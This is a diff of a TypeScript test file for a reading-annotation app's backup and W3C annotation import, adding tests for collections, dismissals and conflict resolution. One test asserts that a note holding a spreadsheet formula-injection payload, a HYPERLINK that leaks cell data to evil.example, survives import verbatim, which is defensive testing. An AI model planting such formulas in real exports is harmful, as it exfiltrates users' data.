@@ -8,9 +8,9 @@ import { w3cText } from '../../../core/exchange/w3c';
 import { freshRepository } from '../support/database';
 import { EXPORTED_AT, sampleText } from './support';
 
+/** What the library page's "Delete everything" does. */
 async function wipe(repo: Repository): Promise<void> {
-  const { articles, annotations, parties, settings, snapshots } = repo.db;
-  await Promise.all([articles, annotations, parties, settings, snapshots].map((table) => table.clear()));
+  await repo.wipeLibrary();
 }
 
 async function backupOf(repo: Repository): Promise<string> {
@@ -26,7 +26,35 @@ const counts = (n: Partial<Record<'new' | 'updated' | 'unchanged' | 'skipped' | 
   ...n,
 });
 
-const NO_WRITES = { articles: [], annotations: [], parties: [], settings: [], versions: [], versionSpans: [] };
+const NO_WRITES = {
+  articles: [],
+  annotations: [],
+  parties: [],
+  settings: [],
+  collections: [],
+  dismissals: [],
+  versions: [],
+  versionSpans: [],
+};
+
+const EMPTY_LIBRARY = {
+  articles: [],
+  annotations: [],
+  parties: [],
+  settings: [],
+  collections: [],
+  dismissals: [],
+  versions: [],
+};
+
+const ESSAY = '5e1ec7ed-0001-4c0a-8b1e-000000000001';
+const BUDGET = 'https://news.example.org/2024/05/budget-vote.html';
+
+type SampleFile = {
+  articles: { id: string }[];
+  collections?: { id: string; name: string; articleIds: string[]; updated: string }[];
+  dismissals?: { id: string; at: string }[];
+};
 
 describe('importing a backup', () => {
   it('into an empty library adds everything, and the library then backs up to the same file', async () => {
@@ -37,6 +65,8 @@ describe('importing a backup', () => {
       annotations: counts({ new: 11 }),
       parties: counts({ new: 6 }),
       settings: counts({ new: 1 }),
+      collections: counts({ new: 3 }),
+      dismissals: counts({ new: 4 }),
       versions: counts({}),
     });
     expect(await backupOf(repo)).toBe(backupText(readImportText(sampleText()), { exportedAt: EXPORTED_AT }));
@@ -52,11 +82,16 @@ describe('importing a backup', () => {
     const repo = freshRepository();
     await applyImport(repo, readImportText(sampleText()));
     const before = await repo.readLibrary();
+    expect(before.collections).toHaveLength(3);
+    expect(before.dismissals).toHaveLength(4);
     const exported = await backupOf(repo);
     await wipe(repo);
-    expect((await repo.readLibrary()).annotations).toEqual([]);
+    expect(await repo.readLibrary()).toEqual(EMPTY_LIBRARY);
     await applyImport(repo, readImportText(exported));
     expect(await repo.readLibrary()).toEqual(before);
+    expect(await repo.listCollections()).toEqual(
+      [...before.collections].sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0)),
+    );
     expect(await backupOf(repo)).toBe(exported);
   });
 
@@ -70,6 +105,8 @@ describe('importing a backup', () => {
       annotations: counts({ unchanged: 11 }),
       parties: counts({ unchanged: 6 }),
       settings: counts({ unchanged: 1 }),
+      collections: counts({ unchanged: 3 }),
+      dismissals: counts({ unchanged: 4 }),
       versions: counts({}),
     });
     expect(second.writes).toEqual(NO_WRITES);
@@ -79,7 +116,11 @@ describe('importing a backup', () => {
   it('settles conflicts by the newer updated time, and says how many and why', async () => {
     const repo = freshRepository();
     await applyImport(repo, readImportText(sampleText()));
-    const file = JSON.parse(sampleText()) as { annotations: { id: string; note: string; updated: string }[]; parties: { id: string; name: string; updated: string }[]; settings: { key: string; value: unknown }[] };
+    const file = JSON.parse(sampleText()) as {
+      annotations: { id: string; note: string; updated: string }[];
+      parties: { id: string; name: string; updated: string }[];
+      settings: { key: string; value: unknown }[];
+    };
     // In the library: one annotation edited after the backup was made…
     const edited = (await repo.getAnnotation('0c5d1e2f-0001-4a6b-8c7d-000000000001'))!;
     await repo.saveAnnotation({ ...edited, note: 'edited in the library', updated: '2025-01-01T00:00:00.000Z' });
@@ -116,10 +157,100 @@ describe('importing a backup', () => {
     expect((await repo.getParty(file.parties[0]!.id))!.name).toBe('Maria Example-Renamed');
   });
 
+  it('settles a collection changed on both sides by the newer updated time; a dismissal stays dismissed', async () => {
+    const repo = freshRepository();
+    await applyImport(repo, readImportText(sampleText()));
+    const [essay, hostile, empty] = [...(await repo.readLibrary()).collections].sort((a, b) => (a.id < b.id ? -1 : 1));
+    // In the library: the essay's sources renamed in January, the empty one changed later than the file's copy.
+    await repo.restoreCollection({ ...essay!, name: 'Essay sources (library)', updated: '2025-01-01T00:00:00.000Z' });
+    const file = JSON.parse(sampleText()) as Required<SampleFile>;
+    const inFile = (id: string) => file.collections.find((c) => c.id === id)!;
+    // In the file: the essay's sources cut down in February (newer), the hostile one renamed at the
+    // same time as the library's copy, the empty one renamed earlier; one dismissal at another time.
+    Object.assign(inFile(essay!.id), {
+      name: 'Essay sources (file)',
+      articleIds: [BUDGET],
+      updated: '2025-02-01T00:00:00.000Z',
+    });
+    Object.assign(inFile(hostile!.id), { name: 'Same time, other name' });
+    Object.assign(inFile(empty!.id), { name: 'Older name', updated: '2024-07-01T00:00:00.000Z' });
+    file.dismissals[0]!.at = '2025-03-01T00:00:00.000Z';
+    const incoming = readImportText(JSON.stringify(file));
+
+    const preview = await previewImport(repo, incoming);
+    expect(preview.counts.collections).toEqual(counts({ updated: 1, skipped: 2, conflicts: 3 }));
+    expect(preview.counts.dismissals).toEqual(counts({ unchanged: 4 }));
+    expect(preview.reasons).toEqual(
+      expect.arrayContaining([
+        { kind: 'collections', outcome: 'updated', reason: REASONS.incomingNewer, count: 1 },
+        { kind: 'collections', outcome: 'skipped', reason: REASONS.sameTime, count: 1 },
+        { kind: 'collections', outcome: 'skipped', reason: REASONS.libraryNewer, count: 1 },
+        { kind: 'dismissals', outcome: 'unchanged', reason: REASONS.alreadyDismissed, count: 1 },
+        { kind: 'dismissals', outcome: 'unchanged', reason: REASONS.identical, count: 3 },
+      ]),
+    );
+    expect((await repo.db.collections.get(essay!.id))!.name).toBe('Essay sources (library)');
+
+    const applied = await applyImport(repo, incoming);
+    expect(applied.counts).toEqual(preview.counts);
+    expect(await repo.db.collections.get(essay!.id)).toEqual({
+      ...essay,
+      name: 'Essay sources (file)',
+      articleIds: [BUDGET],
+      updated: '2025-02-01T00:00:00.000Z',
+    });
+    expect(await repo.db.collections.get(hostile!.id)).toEqual(hostile);
+    expect(await repo.db.collections.get(empty!.id)).toEqual(empty);
+    expect((await repo.db.dismissals.get(file.dismissals[0]!.id))!.at).not.toBe('2025-03-01T00:00:00.000Z');
+  });
+
+  it('refuses a collection that names an article not in the file, and writes nothing', async () => {
+    const repo = freshRepository();
+    await applyImport(repo, readImportText(sampleText()));
+    const before = await repo.readLibrary();
+    const file = JSON.parse(sampleText()) as Required<SampleFile>;
+    file.collections[0]!.articleIds.push('https://elsewhere.example/story.html');
+    const importFile = async () => applyImport(repo, readImportText(JSON.stringify(file)));
+    await expect(importFile()).rejects.toMatchObject({
+      name: 'ImportError',
+      where: 'collections[0].articleIds[2]',
+      message: 'collections[0].articleIds[2]: no article with this id is in the file',
+    });
+    expect(await repo.readLibrary()).toEqual(before);
+  });
+
+  it('an older backup, without collections or dismissals, still imports and leaves the library’s own alone', async () => {
+    const old = JSON.parse(sampleText()) as SampleFile;
+    delete old.collections;
+    delete old.dismissals;
+    const oldText = JSON.stringify(old, null, 2);
+
+    const fresh = freshRepository();
+    const plan = await applyImport(fresh, readImportText(oldText));
+    expect(plan.counts.annotations).toEqual(counts({ new: 11 }));
+    expect(plan.counts.collections).toEqual(counts({}));
+    expect(plan.counts.dismissals).toEqual(counts({}));
+    const library = await fresh.readLibrary();
+    expect(library.collections).toEqual([]);
+    expect(library.dismissals).toEqual([]);
+    // The library backs up to exactly the file it was made from: no empty lists added.
+    expect(await backupOf(fresh)).toBe(backupText(readImportText(oldText), { exportedAt: EXPORTED_AT }));
+    expect(await backupOf(fresh)).not.toContain('"collections"');
+
+    const full = freshRepository();
+    await applyImport(full, readImportText(sampleText()));
+    const before = await full.readLibrary();
+    const again = await applyImport(full, readImportText(oldText));
+    expect(again.writes).toEqual(NO_WRITES);
+    expect(await full.readLibrary()).toEqual(before);
+  });
+
   it('merges an article the library already has, keeping every address and the widest visit span', async () => {
     const repo = freshRepository();
     await applyImport(repo, readImportText(sampleText()));
-    const file = JSON.parse(sampleText()) as { articles: { id: string; urls: string[]; firstVisit: string; lastVisit: string; title: string }[] };
+    const file = JSON.parse(sampleText()) as {
+      articles: { id: string; urls: string[]; firstVisit: string; lastVisit: string; title: string }[];
+    };
     file.articles[0]!.urls.push('https://amp.news.example.org/2024/05/budget-vote.html');
     file.articles[0]!.firstVisit = '2024-05-01T00:00:00.000Z';
     file.articles[0]!.title = 'Older title from an earlier visit';
@@ -137,7 +268,7 @@ describe('importing a backup', () => {
     // Articles and parties are written before annotations in the same transaction.
     vi.spyOn(repo.db.annotations, 'bulkPut').mockRejectedValueOnce(new Error('disk full'));
     await expect(applyImport(repo, incoming)).rejects.toThrow('disk full');
-    expect(await repo.readLibrary()).toEqual({ articles: [], annotations: [], parties: [], settings: [], versions: [] });
+    expect(await repo.readLibrary()).toEqual(EMPTY_LIBRARY);
   });
 });
 
@@ -158,7 +289,10 @@ describe('importing W3C Web Annotation files', () => {
     expect(claim.kind).toBe('claim');
     expect(claim.claim!.verdict).toBe('True');
     expect((await repo.getParty(claim.claim!.claimantId!))!.name).toBe('Maria Example');
-    expect(claim.claim!.evidence.map((e) => e.url)).toEqual(['https://stats.example.gov/labour/2024-04', 'https://archive.example.org/web/2024/stats?a=1&b=2']);
+    expect(claim.claim!.evidence.map((e) => e.url)).toEqual([
+      'https://stats.example.gov/labour/2024-04',
+      'https://archive.example.org/web/2024/stats?a=1&b=2',
+    ]);
     expect(claim.note).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
     expect((await repo.getAnnotation('0c5d1e2f-0001-4a6b-8c7d-000000000007'))!.kind).toBe('party-mention');
     expect((await repo.getAnnotation('legacy-note-1'))!.tags).toEqual(['=SUM(A1:A2)', '@admin']);
@@ -177,7 +311,12 @@ describe('importing W3C Web Annotation files', () => {
     const before = await repo.readLibrary();
     const plan = await applyImport(repo, readImportText(w3cText(before, { exportedAt: EXPORTED_AT })));
     expect(plan.counts.parties).toEqual(counts({ unchanged: 5 }));
-    expect(plan.reasons).toContainEqual({ kind: 'parties', outcome: 'unchanged', reason: REASONS.partyMatched, count: 5 });
+    expect(plan.reasons).toContainEqual({
+      kind: 'parties',
+      outcome: 'unchanged',
+      reason: REASONS.partyMatched,
+      count: 5,
+    });
     // What W3C cannot carry (evidence titles, colours, where annotations were last found)
     // makes some copies differ; at the same time, the library's are kept.
     expect(plan.counts.annotations.new).toBe(0);
@@ -196,7 +335,12 @@ describe('importing W3C Web Annotation files', () => {
       uri: 'https://m.news.example.org/2024/05/budget-vote.html?utm_medium=social',
       text: 'From Hypothesis',
       tags: [],
-      target: [{ source: 'https://m.news.example.org/2024/05/budget-vote.html?utm_medium=social', selector: [{ type: 'TextQuoteSelector', exact: 'opposition walked out' }] }],
+      target: [
+        {
+          source: 'https://m.news.example.org/2024/05/budget-vote.html?utm_medium=social',
+          selector: [{ type: 'TextQuoteSelector', exact: 'opposition walked out' }],
+        },
+      ],
     };
     const plan = await applyImport(repo, readImportText(JSON.stringify({ rows: [row] })));
     expect(plan.counts.annotations).toEqual(counts({ new: 1 }));
